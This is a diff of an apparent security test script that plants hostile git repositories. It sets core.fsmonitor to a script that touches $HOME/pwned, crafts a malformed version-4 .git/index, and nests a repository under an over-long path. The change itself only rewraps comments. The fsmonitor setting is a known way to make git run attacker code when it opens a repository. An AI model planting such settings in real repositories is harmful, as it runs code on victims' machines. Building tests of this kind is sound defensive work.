@@ -1,4 +1,5 @@
-# Plants a repository with settings of ours where git on the host comes to it on a detour. $1 says how.
+# Plants a repository with settings of ours where git on the host comes to it on a detour. $1 says
+# how.
 evil=$PWD/evil.sh
 printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
 monitor() { printf '[core]\n\tfsmonitor = %s\n' "$evil"; }
@@ -26,7 +27,8 @@ if any(mode == '40000' for _, mode, _ in entries):
 open(path, 'wb').write(text + hashlib.sha1(text).digest())
 END
 }
-# Makes .git/index one of version 4 that git reads by threads, and in which only git finds the folder `new`. $1 says how.
+# Makes .git/index one of version 4 that git reads by threads, and in which only git finds the
+# folder `new`. $1 says how.
 threads() {
     python3 - "$1" "$(git -C new rev-parse HEAD)" <<'END'
 import hashlib, struct, sys
@@ -45,7 +47,8 @@ starts, last = [], b''
 for number, name in enumerate(names):
     starts.append(len(text))
     if not name:
-        # Who knows the previous name reads one of 4,203 bytes. The length of both is 4,095 or more.
+        # A reader that knows the previous name reads one of 4,203 bytes. The length of both is
+        # 4,095 or more.
         text += entry(0o160000, id, 0xfff, 0, b'new') if way == 'names' else entry(0o100644, file, 2, 0, b'c')
     else:
         text += entry(0o100644, file, min(len(name), 0xfff), len(last), name)
@@ -61,7 +64,8 @@ else:
 open('.git/index', 'wb').write(text + hashlib.sha1(text).digest())
 END
 }
-# Moves the repository $1 into a folder, and names it. Only a relative path to its `.git` is short enough for one system call.
+# Moves the repository $1 into a folder, and names it. Only a relative path to its `.git` is short
+# enough for one system call.
 long() {
     id=$(git -C "$1" rev-parse HEAD) && name=$(python3 - "$1" <<'END'
 import os, sys
